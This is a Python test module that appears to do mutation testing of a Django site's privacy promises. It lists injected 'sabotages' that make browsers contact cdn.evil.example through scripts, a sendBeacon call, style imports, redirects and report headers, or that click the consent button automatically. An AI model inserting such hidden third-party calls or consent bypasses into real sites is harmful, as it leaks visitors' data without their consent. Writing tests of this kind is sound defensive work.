"""Sabotages of what visitors' browsers contact: third parties, and plug-ins before a click."""

from django.http import HttpRequest, HttpResponse

from tests.privacy.promises.sabotages.kinds import (
    HOME,
    NEWS,
    Sabotage,
    answer,
    at,
    body,
    header,
    is_of_browser,
    more,
    template,
    when,
)

ENGLISH = '{% if LANGUAGE_CODE == "en" %}'
FOREIGN = "https://cdn.evil.example/x"
FRAME = '<iframe src="/embed/facebook/"></iframe></main>'
MAIN, HEAD = "</main>", "</head>"
PIXEL = f"<style>p {{ background: url({FOREIGN}.gif) }}</style></head>"
REFRESH = f'<meta http-equiv="refresh" content="9; url={FOREIGN}"></head>'
CLOSED = "default-src 'none'; frame-ancestors 'none'"
REPORTING = f"default-src 'none'; frame-ancestors 'none'; report-uri {FOREIGN}"


DRAWN = '.social-consent__button img { content: url("/static/site/pictures/hero.svg") }'
FRAMES = ';d.append(Object.assign(d.createElement("iframe"), { src: "/embed/facebook/" }));'
JOINED = ';picture.src = ["https:", "", "cdn.evil.example", "x.gif"].join("/");'
FETCHED = ";import(document.body.dataset.kit);"
BAR = "/static/social_consent/bar.js"
EACH = '[data-provider] img { content: url("/static/site/pictures/hero.svg") }'
CLICKS = ";document.querySelector('[name=activate]').click();"


def is_form(request: HttpRequest, response: HttpResponse) -> bool:
    return request.method == "POST"


def keeps_for_long(request: HttpRequest, response: HttpResponse) -> bool:
    return "reset" in request.POST and "social_consent_kept" in request.COOKIES


SHARING = [
    Sabotage("S22", "drawing of a style sheet", at("/static/site/base.css", more(DRAWN)), HOME),
    Sabotage("S22", "drawing for every picture", at("/static/site/base.css", more(EACH)), HOME),
    Sabotage("S01", "click by a script", at(BAR, more(CLICKS)), HOME),
    Sabotage("S01", "frame by a script", at(BAR, more(FRAMES)), HOME),
    Sabotage("S01", "address that a script joins", at(BAR, more(JOINED)), HOME),
    Sabotage("S01", "script whose address an element has", at(BAR, more(FETCHED)), HOME),
    Sabotage("S23", "plug-in for every form", at("/embed/", when(is_form, answer(200))), HOME),
    Sabotage(
        "S23",
        "plug-in that is fetched ahead",
        at("/embed/", when(is_of_browser("Sec-Purpose", "prefetch"), answer(200))),
        HOME,
    ),
    Sabotage(
        "S25",
        "reset that spares what is kept for long",
        at("/social/choice/", when(keeps_for_long, answer(303, Location="/de/"))),
        HOME,
    ),
    Sabotage(
        "S01",
        "script on English pages",
        template(
            "templates/base.html",
            HEAD,
            f'{ENGLISH}<script src="{FOREIGN}.js"></script>{{% endif %}}{HEAD}',
        ),
        HOME,
    ),
    Sabotage(
        "S01", "preload header", at("/en/", header("Link", f"<{FOREIGN}>; rel=preload")), HOME
    ),
    Sabotage(
        "S01",
        "preconnect",
        at("/en/", body(HEAD, f'<link rel=preconnect href="{FOREIGN}">{HEAD}')),
        HOME,
    ),
    Sabotage("S01", "refresh", at("/de/", body(HEAD, REFRESH)), HOME),
    Sabotage("S01", "pixel in a style", at("/en/news/", body(HEAD, PIXEL)), NEWS),
    Sabotage(
        "S01",
        "import in a style sheet",
        at("/static/site/base.css", more(f'@import url("{FOREIGN}.css");')),
        HOME,
    ),
    Sabotage(
        "S01",
        "font from elsewhere",
        at("/static/site/base.css", more("@font-face { src: url(//fonts.evil.example/a.woff2) }")),
        HOME,
    ),
    Sabotage(
        "S01",
        "beacon in a script",
        at("/static/social_consent/social_consent.js", more(f'navigator.sendBeacon("{FOREIGN}");')),
        HOME,
        {"S16"},
    ),
    Sabotage(
        "S01",
        "page that redirects elsewhere",
        at("/en/imprint/", answer(302, Location=FOREIGN)),
        ("pages:imprint",),
    ),
    Sabotage(
        "S01",
        "picture that redirects elsewhere",
        at("/static/site/pictures/hero.svg", answer(302, Location=FOREIGN)),
        HOME,
    ),
    Sabotage(
        "S01",
        "style sheet that redirects elsewhere",
        at("/static/site/layout.css", answer(301, Location=FOREIGN)),
        HOME,
    ),
    Sabotage(
        "S01",
        "reports of browsers to others",
        at("/en/", header("Reporting-Endpoints", f'default="{FOREIGN}"')),
        HOME,
    ),
    Sabotage(
        "S01",
        "network errors to others",
        at("/de/", header("Report-To", f'{{"endpoints": [{{"url": "{FOREIGN}"}}]}}')),
        HOME,
    ),
    Sabotage(
        "S01",
        "policy reports to others",
        at("/de/", header("Content-Security-Policy", REPORTING)),
        HOME,
    ),
    Sabotage(
        "S01",
        "base of all addresses elsewhere",
        at("/en/imprint/", body(HEAD, f'<base href="{FOREIGN}/">{HEAD}')),
        ("pages:imprint",),
    ),
    Sabotage(
        "S01",
        "set of pictures in a style sheet",
        at("/static/site/base.css", more(f'p {{ background: image-set("{FOREIGN}.png" 1x) }}')),
        HOME,
    ),
    Sabotage(
        "S01",
        "background of the body",
        at("/en/", body("<body", f'<body background="{FOREIGN}.png"')),
        HOME,
    ),
    Sabotage(
        "S01",
        "another server for ours",
        at("/de/", header("Alt-Svc", 'h3=":443", h2="evil.example:443"')),
        HOME,
    ),
    Sabotage(
        "S01",
        "pages fetched ahead from others",
        at("/en/", header("Speculation-Rules", f'"{FOREIGN}.json"')),
        HOME,
    ),
    Sabotage(
        "S22",
        "another source of the picture",
        at("/en/", body('stage"><img ', 'stage"><source srcset="/static/site/x.svg"><img ')),
        HOME,
    ),
    Sabotage(
        "S23",
        "plug-in for every frame",
        at("/embed/", when(is_of_browser("Sec-Fetch-Dest", "iframe"), answer(200))),
        HOME,
    ),
    Sabotage(
        "S23",
        "policy names a network by a pattern",
        at("/en/", header("Content-Security-Policy", f"{CLOSED}; frame-src *.facebook.com")),
        HOME,
    ),
    Sabotage("S22", "another drawing", at("/static/social_consent/facebook.svg", more(" ")), HOME),
    Sabotage(
        "S22",
        "frame in a button",
        at(
            "/en/",
            body(
                'class="social-consent__button" data-provider="facebook"',
                'class="social-consent__button" data-provider="facebook"><object></object',
            ),
        ),
        HOME,
        {"S26"},
    ),
    Sabotage(
        "S23",
        "plug-in for everybody who names a page",
        at("/embed/", when(lambda request, response: "page" in request.GET, answer(200))),
        HOME,
    ),
    Sabotage(
        "S23",
        "plug-in for any cookie",
        at("/embed/", when(lambda request, response: bool(request.COOKIES), answer(200))),
        HOME,
    ),
    Sabotage(
        "S23",
        "policy names a network",
        at(
            "/en/",
            header(
                "Content-Security-Policy",
                "default-src 'self'; img-src https://www.facebook.com; frame-ancestors 'none'",
            ),
        ),
        HOME,
    ),
    Sabotage(
        "S24",
        "preview of another visitor",
        at("/social/what-is-sent/", answer(200, "Mozilla/5.0")),
        HOME,
    ),
    Sabotage("S24", "no link to the preview", at("/", body("what-is-sent/", "x/")), HOME),
    Sabotage(
        "S25",
        "list without a network in English",
        at("/", body('value="facebook"', 'value="other"')),
        HOME,
        {"S01"},
    ),
    Sabotage(
        "S25",
        "reset that does nothing",
        at(
            "/social/choice/",
            when(lambda request, response: "reset" in request.POST, answer(303, Location="/de/")),
        ),
        HOME,
    ),
    Sabotage("S26", "frame on the next page", at("/de/news/", body(MAIN, FRAME)), HOME),
    Sabotage("S26", "frame in English", at("/en/", body(MAIN, FRAME)), HOME),
]
